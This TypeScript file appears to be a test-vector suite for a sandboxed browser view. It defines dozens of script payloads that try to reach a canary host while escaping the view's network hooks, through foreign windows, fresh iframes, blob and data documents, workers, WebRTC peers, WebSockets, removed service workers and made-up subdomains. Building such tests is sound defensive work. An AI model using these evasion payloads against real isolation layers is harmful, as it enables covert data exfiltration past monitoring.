import { asPage } from "./script.ts";
import { type Canary, type Vector, vectorsOf } from "./vector.ts";

/** Every window that this one can find, from the uppermost down; some of them are of its origin, as the view's boot page is. */
const WINDOWS = `const all = (w) => [w, ...Array.from({ length: w.length }, (_, i) => all(w[i])).flat()];`;
/** Runs in each window that lets us, other than our own: what that window may, we may. */
const elsewhere = (act: string): string =>
  `${WINDOWS} for (const w of all(top)) if (w !== window) try { w.document; ${act} } catch {}`;
/** A window that nobody told hooks of. */
const FRESH = `document.body.insertAdjacentHTML("beforeend", "<iframe></iframe>"); const w = window[window.length - 1];`;
const PEER = (host: string): string =>
  `{ const p = new w.RTCPeerConnection({ iceServers: [{ urls: "stun:${host}:3478" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)); }`;
const blob = (type: string, text: string): string =>
  `URL.createObjectURL(new Blob([${JSON.stringify(text).replaceAll("</", "<\\/")}], { type: "${type}" }))`;
const framed = (address: string): string =>
  `{ const f = document.createElement("iframe"); f.src = ${address}; document.body.append(f); }`;
/** Asked for in each way that a page has, of names that it makes of its own. */
const madeUp = (at: (host: string) => string): string =>
  `{ const [, label = "label", view = location.host] = /^(.*?)\\.?(view\\..*)$/.exec(location.host) ?? []; for (const name of ["made-up", label + "-m", label + "-aa", "a." + label, label + "-a.x"]) { const u = "${at("NAME")}/leak".replace("NAME", name + "." + view); fetch(u, { mode: "no-cors" }).catch(() => {}); new Image().src = u; for (const rel of ["preconnect", "dns-prefetch", "prefetch"]) { const l = document.createElement("link"); l.rel = rel; l.href = u; document.head.append(l); } try { new WebSocket(u.replace("http", "ws")); } catch {} const f = document.createElement("iframe"); f.src = u; document.body.append(f); } }`;
const SVG = 'xmlns="http://www.w3.org/2000/svg"';
const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"';

/** A page's script acts by another window or worker than its own, or by a document it has made. */
const SCRIPTS: Readonly<Record<string, (canary: Canary) => string>> = {
  "realm-other-fetch": ({ url }) => elsewhere(`w.fetch("${url}", { mode: "no-cors" }).catch(() => {});`),
  "realm-other-socket": ({ host }) => elsewhere(`new w.WebSocket("ws://${host}:9090/");`),
  "realm-other-peer": ({ host }) => elsewhere(PEER(host)),
  "realm-other-transport": ({ host }) =>
    elsewhere(`new w.WebTransport("https://${host}:443/").ready.catch(() => {});`),
  "realm-other-image": ({ url }) => elsewhere(`new w.Image().src = "${url}";`),
  "realm-other-preconnect": ({ url }) =>
    elsewhere(
      `const l = w.document.createElement("link"); l.rel = "preconnect"; l.href = "${url}"; w.document.head.append(l);`,
    ),
  "realm-other-frame": ({ url }) =>
    elsewhere(`const f = w.document.createElement("iframe"); f.src = "${url}"; w.document.body.append(f);`),
  "realm-other-script": ({ url }) =>
    elsewhere(
      `const s = w.document.createElement("script"); s.textContent = "fetch('${url}')"; w.document.body.append(s);`,
    ),
  "realm-fresh-fetch": ({ url }) => `${FRESH} w.fetch("${url}", { mode: "no-cors" }).catch(() => {});`,
  "realm-fresh-socket": ({ host }) => `${FRESH} new w.WebSocket("ws://${host}:9090/");`,
  "realm-fresh-peer": ({ host }) => `${FRESH} ${PEER(host)}`,
  "realm-fresh-worker": ({ url }) =>
    `${FRESH} new w.Worker(w.URL.createObjectURL(new w.Blob(["fetch('${url}').catch(()=>{})"])));`,
  "realm-fresh-location": ({ url }) => `${FRESH} w.location = "${url}";`,
  "realm-fresh-form": ({ url }) =>
    `${FRESH} w.name = "inner"; const f = document.createElement("form"); f.action = "${url}"; f.target = "inner"; document.body.append(f); f.submit();`,
  "realm-fresh-write": ({ url }) =>
    `${FRESH} w.document.open(); w.document.write("<link rel=dns-prefetch href='${url}'><img src='${url}'>"); w.document.close();`,
  "realm-fresh-nested": ({ url }) =>
    `${FRESH} const i = w.document.createElement("iframe"); w.document.body.append(i); w[0].fetch("${url}").catch(() => {});`,
  "realm-fresh-attribute": ({ url }) =>
    `${FRESH} const e = document.createElement("img"); w.Element.prototype.setAttribute.call(e, "src", "${url}");`,
  "realm-data-peer": ({ host }) =>
    framed(
      `"data:text/html," + encodeURIComponent("<script>const w = self; ${PEER(host).replaceAll('"', "'")}<\\/script>")`,
    ),
  "realm-sandboxed-peer": ({ host }) =>
    `{ const f = document.createElement("iframe"); f.sandbox = "allow-scripts"; f.srcdoc = "<script>const w = self; ${PEER(host).replaceAll('"', "'")}<\\/script>"; document.body.append(f); }`,
  "realm-blob-xml": ({ url }) =>
    framed(blob("text/xml", `<?xml-stylesheet type="text/css" href="${url}"?><a/>`)),
  "realm-blob-xhtml": ({ url, host }) =>
    framed(
      blob(
        "application/xhtml+xml",
        `<html ${XHTML}><img src="${url}"/><script>new WebSocket("ws://${host}:9090/")</script></html>`,
      ),
    ),
  "realm-blob-svg-script": ({ url }) =>
    framed(blob("image/svg+xml", `<svg ${SVG}><script>fetch("${url}")</script></svg>`)),
  "realm-blob-redirect": ({ url }) =>
    framed(blob("text/html", `<meta http-equiv="refresh" content="0;url=${url}">`)),
  "realm-blob-leaves": ({ url }) =>
    `location.href = ${blob("text/html", `<script>location="${url}"</script>`)};`,
  "realm-file-system": ({ url }) =>
    `window.webkitRequestFileSystem?.(0, 9999, (s) => s.root.getFile("x.html", { create: true }, (e) => e.createWriter((c) => { c.onwriteend = () => { ${framed("e.toURL()")} }; c.write(new Blob(["<img src='${url}'>"])); })));`,
  "realm-worker-nested": ({ url }) =>
    `new Worker(URL.createObjectURL(new Blob(["new Worker(URL.createObjectURL(new Blob([\\"fetch('${url}').catch(()=>{})\\"])))"])));`,
  "realm-worker-peer": ({ host }) =>
    `new Worker(URL.createObjectURL(new Blob(["try{new WebSocketStream('ws://${host}:9090/')}catch{};try{new EventSource('http://${host}:9090/')}catch{};try{new RTCPeerConnection()}catch{}"])));`,
  "realm-worker-font": ({ url }) =>
    `new Worker(URL.createObjectURL(new Blob(["new FontFace('x','url(${url})').load().catch(()=>{})"])));`,
  "realm-shared-socket": ({ host }) =>
    `new SharedWorker(URL.createObjectURL(new Blob(["new WebSocket('ws://${host}:9090/')"])));`,
  "realm-worklet-import": ({ url }) =>
    `new AudioContext().audioWorklet.addModule(URL.createObjectURL(new Blob(["import '${url}'"], { type: "text/javascript" }))).catch(() => {});`,
  // Without its service worker a path is the server's to answer: in the window of what it answers nothing else may hold.
  "realm-unregistered": ({ url, host }) =>
    `(async () => { for (const r of await navigator.serviceWorker.getRegistrations()) await r.unregister(); const f = document.createElement("iframe"); f.sandbox = "allow-same-origin allow-scripts"; f.src = "/~sw.js"; f.onload = () => { const w = f.contentWindow; w.fetch("${url}", { mode: "no-cors" }).catch(() => {}); new w.WebSocket("ws://${host}:9090/"); ${PEER(host)} }; document.body.append(f); })();`,
  // Names of the view that are nobody's, alike to labels and to those set aside for their frames: the server's records tell of whoever gets through.
  "realm-made-up": () => madeUp((host) => `http://${host}`),
  "realm-made-up-secure": () => madeUp((host) => `https://${host}`),
  "realm-boot": ({ url, host }) =>
    `{ const f = document.createElement("iframe"); f.src = "/~boot"; f.onload = () => { const w = f.contentWindow; w.fetch("${url}", { mode: "no-cors" }).catch(() => {}); new w.Image().src = "${url}"; ${PEER(host)} }; document.body.append(f); }`,
};

/** The boot page of our origin, and in the open an empty window, goes there by itself, or is sent on by what stands in it. */
const inBoot = (act: string): string =>
  `${FRESH} ${WINDOWS} for (const o of [w, ...all(top)]) try { if (o === w || o.location.pathname === "/~boot") { ${act} } } catch {}`;
const BOOT: typeof SCRIPTS = {
  "realm-boot-leaves": ({ url }) => inBoot(`o.setTimeout(o.location.replace.bind(o.location), 0, "${url}");`),
  "realm-boot-refresh": ({ url }) =>
    inBoot(
      `const m = o.document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=${url}"; o.document.head.append(m);`,
    ),
};

/** Other windows are sent away; the browser lets scripts do so at most after a click. */
const SENT: Readonly<Record<string, (canary: Canary) => string>> = {
  "realm-send-away": ({ url }) =>
    `${WINDOWS} for (const w of all(top)) if (w !== self) try { w.location = "${url}" } catch {}`,
  "realm-send-by-name": ({ url }) =>
    `${WINDOWS} for (const w of all(top)) try { w.name = "there"; open("${url}", "there") } catch {}`,
};
/** Links that no hook has seen, held open for another tab. */
const unseen = ({ url }: Canary): string =>
  `<body><p>text</p><script>${FRESH} const a = document.createElement("a"); a.id = "go"; a.textContent = "go"; w.Element.prototype.setAttribute.call(a, "href", "${url}"); w.Node.prototype.appendChild.call(document.body, a);</script>`;

/** The same in a frame without an origin, which no hook gets into. */
const APART = "realm-link-apart";
const apart =
  (name: string) =>
  ({ url }: Canary): string =>
    `<body><p>text</p><script>${FRESH} const set = w.Element.prototype.setAttribute; const f = document.createElement("iframe"); set.call(f, "sandbox", "allow-scripts"); set.call(f, "srcdoc", "<title>${name}</title><a id=go href=${url}>go</a>"); w.Node.prototype.appendChild.call(document.body, f); document.title = "";</script>`;

const pages = (scripts: typeof SCRIPTS): Readonly<Record<string, Vector["html"]>> =>
  Object.fromEntries(Object.entries(scripts).map(([name, script]) => [name, asPage(script)]));
const button =
  (script: (canary: Canary) => string) =>
  (canary: Canary): string =>
    `<button id="go">go</button><script>go.onclick = () => { ${script(canary)} }</script>`;

const HELD = ["Control", "Shift", "Alt"] as const;

export const REALM: readonly Vector[] = [
  ...vectorsOf("script", pages(SCRIPTS)),
  ...vectorsOf("script", pages(BOOT), { alone: true }),
  ...vectorsOf(
    "script",
    Object.fromEntries(Object.entries(SENT).map(([name, script]) => [name, button(script)])),
    { clicked: true, alone: true },
  ),
  ...vectorsOf("script", { "realm-link-unseen": unseen }, { clicked: true }),
  ...vectorsOf("script", { [APART]: apart(APART) }, { clicked: true }),
  ...HELD.flatMap((held) => {
    const key = held.toLowerCase();
    const name = `${APART}-${key}`;
    return vectorsOf(
      "script",
      { [`realm-link-unseen-${key}`]: unseen, [name]: apart(name) },
      { clicked: true, held },
    );
  }),
];
